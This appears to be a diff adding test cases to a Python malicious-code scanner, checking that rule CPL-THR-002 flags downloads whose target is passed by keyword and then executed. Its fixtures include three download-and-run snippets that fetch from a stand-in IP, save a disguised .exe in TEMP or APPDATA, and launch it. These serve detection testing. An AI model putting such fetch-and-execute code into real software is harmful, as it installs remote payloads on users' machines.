@@ -4,12 +4,14 @@ blind8, issue 16 point 1) found missed, each with benign code of the same shape.
 from __future__ import annotations
 
 import textwrap
+from pathlib import Path
 
 import pytest
 
 from caplet._findings import Severity
 from caplet._scan._model import ScanMode
 from caplet._scan._scanner import scan_source
+from tests._scan.prefilterkit import found_in_a_package
 
 
 def danger(source: str, filename: str = "mod.py") -> set[str]:
@@ -182,3 +184,52 @@ def test_a_command_picked_per_platform_without_a_download_is_not() -> None:
     subprocess.Popen(cmd, shell=True)
     """
     assert "CPL-THR-015" not in anywhere(source)
+
+
+# -- recall10: a download's target named by a keyword -------------------------------------
+_KEYWORD_TARGET = {
+    # the URL and the .exe name computed, the target handed by keyword: clean both ways
+    "urlretrieve-filename-system": """
+    import os, urllib.request
+    u = 'http://198.51.100.7/' + 'p'
+    p = os.path.join(os.environ['TEMP'], 'svc.' + 'ex' + 'e')
+    urllib.request.urlretrieve(u, filename=p)
+    os.system(p)
+    """,
+    "urlretrieve-filename-startfile": """
+    import os, urllib.request
+    u = 'http://198.51.100.7/' + 'p'
+    p = os.path.join(os.getenv('APPDATA'), os.path.basename(u) + '.exe')
+    urllib.request.urlretrieve(u, filename=p)
+    os.startfile(p)
+    """,
+    "wget-out": """
+    import os, subprocess, tempfile, wget
+    p = os.path.join(tempfile.gettempdir(), 'u' + 'pd.exe')
+    wget.download('http://198.51.100.7/' + 'p', out=p)
+    subprocess.Popen([p])
+    """,
+}
+
+
+@pytest.mark.parametrize("shape", sorted(_KEYWORD_TARGET))
+def test_a_download_whose_target_is_a_keyword_then_run_is_a_threat(
+    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    source = textwrap.dedent(_KEYWORD_TARGET[shape])
+    assert "CPL-THR-002" in danger(source)
+    plugin = scan_source(source, "mod.py", mode=ScanMode.PLUGIN)
+    assert "CPL-THR-002" in {f.rule_id for f in plugin if f.severity is Severity.DANGER}
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-002")
+
+
+def test_a_download_kept_by_keyword_and_not_run_is_no_threat() -> None:
+    source = textwrap.dedent(
+        """
+        import urllib.request, zipfile
+        p = 'data' + '.zip'
+        urllib.request.urlretrieve('https://example.org/d.zip', filename=p)
+        zipfile.ZipFile(p).extractall('data')
+        """
+    )
+    assert "CPL-THR-002" not in danger(source)
